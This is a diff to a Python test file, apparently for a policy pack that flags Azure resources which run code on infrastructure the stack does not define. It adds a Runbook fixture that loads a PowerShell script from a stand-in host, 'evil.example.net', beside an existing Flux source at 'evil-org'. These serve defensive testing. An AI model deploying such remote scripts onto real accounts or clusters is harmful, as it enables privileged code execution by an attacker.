@@ -26,6 +26,10 @@ FLUX = ("azure-native:kubernetesconfiguration:FluxConfiguration", "flux",
          "sourceKind": "GitRepository", "gitRepository": {"url": "https://github.com/evil-org/manifests"}})
 VM = ("azure-native:compute:VirtualMachine", "dc", {"resourceGroupName": "rg1", "vmName": "dc01"})
 APP = ("azure-native:web:WebApp", "app", {"resourceGroupName": "rg1", "name": "app1"})
+RUNBOOK = ("azure-native:automation:Runbook", "rb",
+           {"resourceGroupName": "rg1", "automationAccountName": "prod-auto", "runbookType": "PowerShell",
+            "publishContentLink": {"uri": "https://evil.example.net/rb.ps1"}})
+ACCOUNT = ("azure-native:automation:AutomationAccount", "auto", {"resourceGroupName": "rg1", "automationAccountName": "prod-auto"})
 AKS = ("azure-native:containerservice:ManagedCluster", "aks", {"resourceGroupName": "rg1", "resourceName": "aks1"})
 
 
@@ -34,6 +38,8 @@ AKS = ("azure-native:containerservice:ManagedCluster", "aks", {"resourceGroupNam
                  f"'{DC01}' (vmResourceId), which this stack does not define"),
     (SOURCE, APP, "sc runs code from a source repository (deployed into the app) on 'app1' (name), which this stack "
                   "does not define"),
+    (RUNBOOK, ACCOUNT, "rb runs a runbook (run as the Automation account's identities and on its hybrid workers) on "
+                       "'prod-auto' (automationAccountName), which this stack does not define"),
     (FLUX, AKS, "flux runs every manifest of a GitOps source (applied by the Flux controllers) on 'aks1' (clusterName)"),
 ])
 def test_code_on_an_existing_target_blocks_and_on_a_stack_target_passes(pack, runner, target, message):
